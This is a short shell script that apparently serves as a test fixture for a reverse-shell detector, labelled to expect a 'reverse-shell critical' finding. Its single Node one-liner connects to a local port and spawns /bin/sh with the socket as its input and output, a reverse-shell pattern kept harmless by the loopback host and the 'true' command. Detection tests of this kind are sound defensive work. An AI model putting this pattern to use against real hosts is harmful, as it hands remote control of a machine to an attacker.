#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: node: a child with the socket as its input and output
# expect: reverse-shell critical
# listen: 127.0.0.1:4456
# needs: node
node -e 'const s = require("net").connect(4456, "127.0.0.1", () => require("child_process").spawn("/bin/sh", ["-c", "true"], {stdio: [s, s, s]}).on("exit", code => process.exit(code)))'
